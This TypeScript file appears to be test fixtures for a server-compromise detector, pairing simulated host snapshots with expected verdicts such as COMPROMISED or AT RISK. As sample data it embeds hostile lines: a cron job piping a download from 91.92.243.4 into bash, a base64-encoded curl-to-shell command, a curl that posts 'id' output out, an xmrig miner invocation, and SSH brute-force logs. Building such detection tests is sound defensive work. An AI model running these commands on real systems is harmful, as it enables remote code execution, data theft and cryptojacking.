import { appLog, at, caseStack, type Piece, patchedStack } from './bundle-builder.js';
import { healthyApp, healthyBundle } from './healthy-bundle.js';
import type { MomentCase } from './moment-case.js';
import { access, appStack, layer, monitorLine, noHistory, start, top } from './pieces.js';

const now = '2026-11-20T12:00:00Z';
const started = start('2026-11-18T08:00:00Z', '16.4.5');
const on = (...pieces: readonly Piece[]) => ({ capturedAt: now, pieces: [...patchedStack(), noHistory, ...pieces] });
const node = '497100 497080 root Fri Nov 13 15:51:18 2026 2.1 214000 next-server (v16.4.5)';

/** Adds a process to the well-kept host, or changes one of its texts. */
const healthyBut = (id: string, subject: string, change: (text: string) => string) =>
  healthyBundle((pieces) =>
    pieces.map((piece) =>
      piece.id === id && (piece.subject ?? 'host') === subject
        ? { ...piece, status: 'ok', text: change(piece.text ?? '') }
        : piece,
    ),
  );

/** Other attacks than the case's, on other stacks and by other ways. */
export const attacks: Record<string, MomentCase> = {
  'a miner that calls itself dockerd, from /tmp': {
    atLeast: 'COMPROMISED',
    confidence: 'confirmed',
    mustFail: ['RTC-02'],
    moment: on(
      appLog(started),
      top([node, '498001 497100 root Fri Nov 20 09:00:00 2026 395 300000 /tmp/dockerd --coin monero']),
    ),
  },
  'a miner that calls itself [kworker/0:1]': {
    atLeast: 'COMPROMISED',
    moment: on(appLog(started), top([node, '498001 497100 root Fri Nov 20 09:00:00 2026 395 300000 [kworker/0:1]'])),
  },
  'cron runs what a container may write': {
    atLeast: 'AT RISK',
    mustFail: ['CTR-11'],
    moment: on(appLog(started), {
      id: 'host.cron',
      text: '==> /etc/cron.d/sync <==\n* * * * * root /srv/payload/scripts/.sync.sh\n',
      command: ['tail', '-n', '+1', '-v', '/etc/cron.d/sync'],
    }),
  },
  'cron downloads and runs on the well-kept host': {
    atLeast: 'AT RISK',
    mustFail: ['PER-01'],
    moment: healthyBut(
      'host.cron',
      'host',
      (text) => `${text}\n==> /etc/cron.d/update <==\n*/5 * * * * root curl -fsSL http://91.92.243.4/u.sh | bash\n`,
    ),
  },
  'a key that nobody declared': {
    atLeast: 'INCONCLUSIVE',
    moment: healthyBut(
      'ssh.authorized-keys',
      'host',
      () =>
        '==> /root/.ssh/authorized_keys <==\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2WkD1q0xY3oJcK6i5QZ1m4u0n9dXH3oYb1mP1n0aBc x@y\n',
    ),
  },
  'a database open to the world with a ransom note': {
    atLeast: 'AT RISK',
    mustFail: ['EXP-04'],
    moment: {
      capturedAt: now,
      pieces: on(appLog(started)).pieces.map((piece) =>
        piece.id === 'host.sockets'
          ? { ...piece, text: (piece.text ?? '').replace('127.0.0.1:27017', '0.0.0.0:27017') }
          : piece.id === 'docker.inspect'
            ? {
                ...piece,
                text: (piece.text ?? '').replace(
                  /"HostIp": "127.0.0.1",(\s+)"HostPort": "27017"/g,
                  '"HostIp": "0.0.0.0",$1"HostPort": "27017"',
                ),
              }
            : piece,
      ),
    },
  },
  'the environment is read by evaluated code, no child is started': {
    atLeast: 'COMPROMISED',
    moment: {
      capturedAt: '2025-12-14T10:00:00Z',
      pieces: [
        ...caseStack(),
        noHistory,
        appLog([
          ...start('2025-12-14T08:00:00Z', '15.3.2'),
          `${at('2025-12-14T09:00:00Z')} TypeError: Cannot read properties of undefined (reading 'toString')`,
          `${at('2025-12-14T09:00:00Z', 0, 1000)}     at Object.eval [as then] (eval at <anonymous> (/app/node_modules/next/dist/compiled/next-server/app-page.runtime.prod.js:25:34007), <anonymous>:1:33)`,
        ]),
      ],
    },
  },
  'base64 into a shell': {
    atLeast: 'COMPROMISED',
    moment: on(
      appLog([
        ...started,
        monitorLine('2026-11-20T11:00:00Z', 'echo Y3VybCAtcyBodHRwOi8vMTk4LjE4LjY2LjYveHxzaA==|base64 -d|sh', appStack),
      ]),
    ),
  },
  'curl to a pool': {
    atLeast: 'COMPROMISED',
    moment: on(
      appLog([
        ...started,
        monitorLine(
          '2026-11-20T11:00:00Z',
          './xmrig -o stratum+tcp://pool.example.net:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x',
          appStack,
        ),
      ]),
    ),
  },
  'a second container runs a program from /dev/shm': {
    atLeast: 'COMPROMISED',
    mustFail: ['RTC-02'],
    moment: on(
      appLog(started),
      top([node]),
      top(
        [
          '411390 411370 999 Thu Nov 12 15:45:03 2026 1.0 300000 mongod',
          '412000 411390 999 Fri Nov 20 03:00:00 2026 180 90000 /dev/shm/.x/m -o 91.92.243.4:443',
        ],
        'payload-mongo-1',
      ),
    ),
  },
  'a server-action POST, a digest error, a child': {
    atLeast: 'COMPROMISED',
    moment: {
      capturedAt: '2025-12-14T10:00:00Z',
      pieces: [
        ...caseStack(),
        noHistory,
        access(['104.23.1.2 - - [14/Dec/2025:09:00:00 +0000] "POST / HTTP/1.1" 500 162 "-" "python-requests/2.31"']),
        appLog([
          ...start('2025-12-14T08:00:00Z', '15.3.2'),
          `${at('2025-12-14T09:00:00Z')}  ⨯ Error: Command failed: id > /tmp/.o; curl -s http://91.92.243.4/s -d @/tmp/.o`,
          `${at('2025-12-14T09:00:00Z', 0, 1000)}     at genericNodeError (node:internal/errors:984:15) {`,
          `${at('2025-12-14T09:00:00Z', 0, 2000)}   digest: '2613474437'`,
        ]),
      ],
    },
  },
  'password guessing by SSH that succeeds from a new address': {
    atLeast: 'AT RISK',
    mustFail: ['RTC-22'],
    moment: healthyBut(
      'auth.log',
      'host',
      (text) =>
        `${text}${Array.from({ length: 400 }, (_, index) => `2026-11-22T10:0${Math.floor(index / 60)}:${String(index % 60).padStart(2, '0')}.000000+00:00 web-2 sshd[${2000 + index}]: Failed password for root from 91.92.243.4 port ${40000 + index} ssh2\n`).join('')}2026-11-22T10:08:00.000000+00:00 web-2 sshd[2999]: Accepted password for root from 91.92.243.4 port 45000 ssh2\n`,
    ),
  },
  'a program dropped into the image’s layer': {
    atLeast: 'COMPROMISED',
    mustFail: ['RTC-06'],
    moment: on(
      appLog(started),
      ...layer(
        ['C /usr/local/bin', 'A /usr/local/bin/node-helper'],
        [{ path: '/usr/local/bin/node-helper', sizeBytes: 992832, mode: '0755', magic: 'elf', packageOwned: false }],
      ),
    ),
  },
  'a child of node in the well-kept container that no image owns': {
    atLeast: 'COMPROMISED',
    moment: healthyBut(
      'host.processes',
      'host',
      (text) =>
        `${text}${JSON.stringify({ pid: 6000, ppid: 4200, uid: 1000, gid: 1000, startedAt: '2026-11-22T03:00:00Z', cpuPercent: 190, cpuSamplePercent: 190, rssBytes: 90_000_000, comm: 'node', exe: '/tmp/.cache/node', exeDeleted: true, argv: ['node', '-o', '91.92.243.4:443'], kernelThread: false, containerId: 'a1'.repeat(32), cgroup: `/system.slice/docker-${'a1'.repeat(32)}.scope`, exePackageOwned: false, env: {} })}\n`,
    ),
  },
  'an undeclared connection out of the well-kept container': {
    atLeast: 'AT RISK',

    moment: healthyBut(
      'container.sockets',
      healthyApp,
      (text) =>
        `${text}tcp ESTAB 0 0 172.19.0.3:51002 91.92.243.4:4444 users:(("next-server",pid=4200,fd=21)) uid:1000 ino:13\n`,
    ),
  },
};
